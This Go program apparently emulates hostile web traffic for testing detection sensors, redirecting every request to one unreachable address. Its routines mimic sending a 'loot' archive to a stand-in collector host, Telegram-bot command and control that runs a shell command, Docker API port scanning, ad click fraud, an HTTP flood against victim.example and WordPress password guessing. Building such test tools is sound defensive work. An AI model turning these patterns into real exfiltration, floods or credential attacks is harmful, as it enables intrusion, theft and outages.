// Command caller asks web servers for what they should not give, and sends them what
// should not leave: its argument says what. Whatever host a request names, it goes to
// an address at which nobody can be, so that the name is only said.
//
// Rule: those that look at requests, by the names of the calls.
package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

// A call is one request.
type call struct {
	method, url, body string
	headers           []string // names and values in turn
}

func main() { stage.Play(perform) }

func perform(ctx context.Context) error {
	if len(os.Args) != 2 {
		return fmt.Errorf("usage: %s CALL", os.Args[0])
	}
	c := client()
	defer c.CloseIdleConnections()
	if deed, ok := deeds[os.Args[1]]; ok {
		return deed(ctx, c)
	}
	list, ok := calls[os.Args[1]]
	if !ok {
		return fmt.Errorf("no call %q", os.Args[1])
	}
	return send(ctx, c, list...)
}

// client reaches one address only, at whatever port is asked for.
func client() *http.Client {
	d := net.Dialer{Timeout: 5 * time.Second}
	return &http.Client{Transport: &http.Transport{
		MaxIdleConnsPerHost: atOnce,
		DialContext: func(ctx context.Context, network, address string) (net.Conn, error) {
			_, port, err := net.SplitHostPort(address)
			if err != nil {
				return nil, err
			}
			return d.DialContext(ctx, network, net.JoinHostPort(wire.Stranger, port))
		},
	}}
}

func send(ctx context.Context, c *http.Client, list ...call) error {
	for _, x := range list {
		answer, err := wire.Request(ctx, c, x.method, x.url, []byte(x.body), x.headers...)
		if err != nil {
			return fmt.Errorf("%s %s: %w", x.method, x.url, err)
		}
		fmt.Printf("%s %s: %d bytes\n", x.method, x.url, len(answer))
	}
	return nil
}

// deeds are those that do more than ask.
var deeds = map[string]func(ctx context.Context, c *http.Client) error{
	"archive-upload":   upload,
	"chat-orders":      obey,
	"engine-spraying":  spray,
	"false-clicks":     click,
	"nameless-channel": channel,
	"web-flood":        flood,
	"web-guessing":     guess,
}

// upload packs a file of its own and sends it away.
func upload(ctx context.Context, c *http.Client) error {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	if _, err := w.Write([]byte(strings.Repeat("nothing\n", 64))); err != nil {
		return err
	}
	const file = "/tmp/.loot.gz"
	if err := errors.Join(w.Close(), os.WriteFile(file, packed.Bytes(), 0o600)); err != nil {
		return err
	}
	err := send(ctx, c, call{method: http.MethodPut, url: "http://files.collector.example/loot", body: packed.String()})
	return errors.Join(err, os.Remove(file))
}

// obey asks a chat for orders, has a shell do what none of them said, and reports.
func obey(ctx context.Context, c *http.Client) error {
	const bot = "https://api.telegram.org/bot1:nobody/"
	if err := send(ctx, c, call{method: http.MethodGet, url: bot + "getUpdates"}); err != nil {
		return err
	}
	out, err := exec.CommandContext(ctx, "/bin/sh", "-c", "echo done").Output()
	if err != nil {
		return err
	}
	return send(ctx, c, call{method: http.MethodPost, url: bot + "sendMessage", body: "chat_id=1&text=" + string(out)})
}

func spray(ctx context.Context, c *http.Client) error {
	for i := 1; i <= 6; i++ {
		if err := send(ctx, c, call{method: http.MethodGet, url: fmt.Sprintf("http://203.0.113.%d:2375/version", i)}); err != nil {
			return err
		}
	}
	return nil
}

func click(ctx context.Context, c *http.Client) error {
	for i := range 8 {
		url := fmt.Sprintf("https://ads.doubleclick.net/pcs/click?n=%d", i)
		if err := send(ctx, c, call{method: http.MethodGet, url: url}); err != nil {
			return err
		}
	}
	return nil
}

// channel opens a WebSocket and says nothing.
func channel(ctx context.Context, c *http.Client) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+wire.Stranger+"/ws", nil)
	if err != nil {
		return err
	}
	for name, value := range map[string]string{
		"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
	} {
		r.Header.Set(name, value)
	}
	answer, err := c.Do(r)
	if err != nil {
		return err
	}
	fmt.Println(answer.Status)
	return answer.Body.Close()
}

// A flood has an end, and some who ask at once.
const (
	floods = 2400
	atOnce = 8
)

// flood asks for one page, each time with a number that no cache knows.
func flood(ctx context.Context, c *http.Client) error {
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(atOnce)
	for i := range floods {
		g.Go(func() error {
			_, err := wire.Request(ctx, c, http.MethodGet, fmt.Sprintf("http://victim.example/?r=%d", i), nil)
			return err
		})
	}
	if err := g.Wait(); err != nil {
		return err
	}
	fmt.Printf("asked %d times\n", floods)
	return nil
}

func guess(ctx context.Context, c *http.Client) error {
	for i := range 10 {
		body := fmt.Sprintf("log=admin&pwd=word%d", i)
		if err := send(ctx, c, call{method: http.MethodPost, url: "http://blog.example/wp-login.php", body: body}); err != nil {
			return err
		}
	}
	return nil
}
